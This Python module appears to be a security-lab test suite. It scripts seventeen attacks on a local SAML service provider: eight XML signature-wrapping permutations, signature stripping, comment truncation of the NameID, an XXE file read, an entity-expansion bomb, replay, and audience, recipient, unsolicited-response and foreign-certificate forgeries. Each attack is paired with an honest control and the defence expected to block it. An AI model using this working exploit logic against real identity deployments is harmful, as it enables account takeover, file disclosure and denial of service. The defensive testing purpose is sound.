"""Seventeen attacks on a SAML service provider: eight wrappings, and what else a response can lie about.

Mallory has a valid response about mallory and wants to be `admin`. XSW1 to XSW8 are the permutations
of SAML Raider (Somorovsky et al., "On Breaking SAML", 2012): the signed element stays in the
document, where the verifier finds it by its ID, and a forged one stands where the application reads.
"""

from __future__ import annotations

import copy
import tempfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from lxml import etree

from velvet_auth.database import Database
from velvet_auth.saml import DS, NAMES, PENDING, SAML, SAMLP
from velvet_auth.samples.idp import MiniIdp, encoded
from velvet_auth.samples.lab import Scene, Send, attack

SP, ACS = "https://shop.example", "https://shop.example/acs"
REQUEST = "_the-request-of-this-browser"
BOMB_CHARACTERS = 400_000  # libxml2 2.14 stops at a million; older versions went on


class TopicScene(Scene):
    """A service provider, its identity provider, and mallory's own signed responses."""

    def __init__(self) -> None:
        super().__init__()
        self.idp = MiniIdp(clock=self.clock)
        self.db = Database()
        self.closing.append(self.db.close)
        self.session: dict[str, Any] = {PENDING: REQUEST}
        folder = tempfile.TemporaryDirectory()
        self.closing.append(folder.cleanup)
        secret_file = Path(folder.name, "secret")
        secret_file.write_text(self.canary, encoding="utf-8")
        known = self.known
        known.secret_file = secret_file.as_uri()
        known.respond = self.respond
        known.evil_idp = MiniIdp("evil.example", clock=self.clock)
        known.again = lambda: self.session.__setitem__(PENDING, REQUEST)

    def respond(self, name: str, **wrong: Any) -> bytes:
        """Return a response that the identity provider signed."""
        asked = {"acs": ACS, "audience": SP, **wrong}
        return self.idp.respond(name, asked.pop("request", REQUEST), **asked)


def honest(known: SimpleNamespace, send: Send) -> bool:
    """Mallory logs in as mallory, by either kind of signature."""
    answer = send(encoded(known.respond("mallory")))
    known.again()
    return "mallory" in answer + send(encoded(known.respond("mallory", sign="response")))


def drop_signatures(element: Any) -> Any:
    """Take the signatures out of an element, and leave the text behind them where it is."""
    for signature in element.findall(f".//{{{DS}}}Signature"):
        above, before = signature.getparent(), signature.getprevious()
        if before is None:
            above.text = (above.text or "") + (signature.tail or "")
        else:
            before.tail = (before.tail or "") + (signature.tail or "")
        above.remove(signature)
    return element


def _forged(element: Any) -> Any:
    """Return a copy about `admin`, with another ID and without a signature."""
    made = drop_signatures(copy.deepcopy(element))
    made.set("ID", "_forged")
    for name in made.iter(f"{{{SAML}}}NameID"):
        name.text = "admin"
    return made


def _unsigned(element: Any) -> Any:
    return drop_signatures(copy.deepcopy(element))


def wrapped(number: int, response: bytes) -> Any:
    """Return permutation XSW1 to XSW8 of a response; 1 and 2 want a signed response."""
    root = etree.fromstring(response)
    if number <= 2:
        evil, signature = _forged(root), root.find("ds:Signature", NAMES)
        original = _unsigned(root)
        if number == 1:
            signature.append(original)
            evil.insert(1, signature)
        else:
            evil.insert(1, original)
            evil.insert(2, signature)
        return evil
    original = root.find("saml:Assertion", NAMES)
    signature = original.find("ds:Signature", NAMES)
    evil = _forged(original)
    if number == 3:
        root.insert(0, evil)
    elif number == 4:
        root.remove(original)
        evil.append(original)
        root.append(evil)
    elif number == 5:
        root.append(_unsigned(original))
        for name in original.iter(f"{{{SAML}}}NameID"):
            name.text = "admin"
        root.find("saml:Assertion", NAMES).set("ID", "_forged")
    elif number == 6:
        plain = _unsigned(original)
        root.remove(original)
        signature.append(plain)
        evil.insert(1, signature)
        root.append(evil)
    elif number == 7:
        extensions = etree.Element(f"{{{SAMLP}}}Extensions")
        extensions.append(evil)
        root.insert(1, extensions)
    else:
        plain = _unsigned(original)
        holder = etree.SubElement(signature, f"{{{DS}}}Object")
        holder.append(plain)
        root.remove(original)
        evil.insert(1, signature)
        root.append(evil)
    return root


def _wrapping(number: int) -> None:
    def exploit(known: SimpleNamespace, send: Send) -> Any:
        sign = "response" if number <= 2 else "assertion"
        return send(encoded(wrapped(number, known.respond("mallory", sign=sign))))

    exploit.__name__ = "saml_wrapping_anywhere" if number in (3, 7) else "saml_wrapping"
    attack(
        f"saml-xsw{number}",
        f"Signature wrapping XSW{number}",
        "CWE-347",
        "SAML core 5.4",
        blocked="assertion",
        control=honest,
    )(exploit)


for _number in range(1, 9):
    _wrapping(_number)


@attack(
    "saml-unsigned",
    "The signature is taken off",
    "CWE-347",
    "SAML profiles 4.1.4",
    blocked="signature",
    control=honest,
)
def saml_unsigned(known: SimpleNamespace, send: Send) -> Any:
    root = etree.fromstring(known.respond("mallory"))
    assertion = root.find("saml:Assertion", NAMES)
    root.replace(assertion, _forged(assertion))
    return send(encoded(root))


@attack(
    "saml-comment",
    "A comment cuts the name",
    "CWE-436",
    "CVE-2018-0489",
    blocked="goal",
    control=honest,
)
def saml_comment(known: SimpleNamespace, send: Send) -> Any:
    # Mallory registered as admin.evil; comments are not part of what is signed.
    response = known.respond("admin.evil")
    return send(encoded(response.replace(b">admin.evil<", b">admin<!-- -->.evil<")))


@attack(
    "saml-xxe",
    "An entity reads a file",
    "CWE-611",
    "ASVS 5 1.5.1",
    blocked="malformed",
    control=honest,
)
def saml_xxe(known: SimpleNamespace, send: Send) -> Any:
    document = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{known.secret_file}">]>'.encode()
    response = known.respond("mallory", sign="").replace(b">mallory<", b">&x;<")
    return send(encoded(document + response))


@attack(
    "saml-entity-bomb",
    "Entities that multiply",
    "CWE-776",
    "ASVS 5 1.5.1",
    blocked="malformed",
    control=honest,
)
def saml_entity_bomb(known: SimpleNamespace, send: Send) -> Any:
    steps = [f'<!ENTITY e0 "{"0" * 1000}">']
    steps += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 3)]
    response = known.respond("mallory", sign="").replace(b">mallory<", b">" + b"&e2;" * 4 + b"<")
    return send(encoded(f"<!DOCTYPE r [{''.join(steps)}]>".encode() + response))


@attack(
    "saml-replay",
    "An assertion shown twice",
    "CWE-294",
    "SAML profiles 4.1.4",
    blocked="replay",
    control=honest,
)
def saml_replay(known: SimpleNamespace, send: Send) -> Any:
    captured = encoded(known.respond("alice"))
    send(captured)
    known.again()
    return send(captured)


@attack(
    "saml-audience",
    "Made for another service",
    "CWE-287",
    "SAML core 2.5.1",
    blocked="audience",
    control=honest,
)
def saml_audience(known: SimpleNamespace, send: Send) -> Any:
    return send(encoded(known.respond("alice", audience="https://partner.example")))


@attack(
    "saml-recipient",
    "Sent to another address",
    "CWE-287",
    "SAML profiles 4.1.4",
    blocked="recipient",
    control=honest,
)
def saml_recipient(known: SimpleNamespace, send: Send) -> Any:
    response = known.respond("alice", acs="https://partner.example/acs")
    root = etree.fromstring(response)
    root.attrib.pop("Destination")  # not signed, since the assertion is
    return send(encoded(root))


@attack(
    "saml-unsolicited",
    "A response that was not asked for",
    "CWE-352",
    "SAML profiles 4.1.5",
    blocked="in_response_to",
    control=honest,
)
def saml_unsolicited(known: SimpleNamespace, send: Send) -> Any:
    return send(encoded(known.respond("alice", request="_another-browser")))


@attack(
    "saml-foreign-key",
    "The response brings its certificate",
    "CWE-347",
    "SAML core 5.4.5",
    blocked="signature",
    control=honest,
)
def saml_foreign_key(known: SimpleNamespace, send: Send) -> Any:
    return send(encoded(known.evil_idp.respond("admin", REQUEST, acs=ACS, audience=SP)))
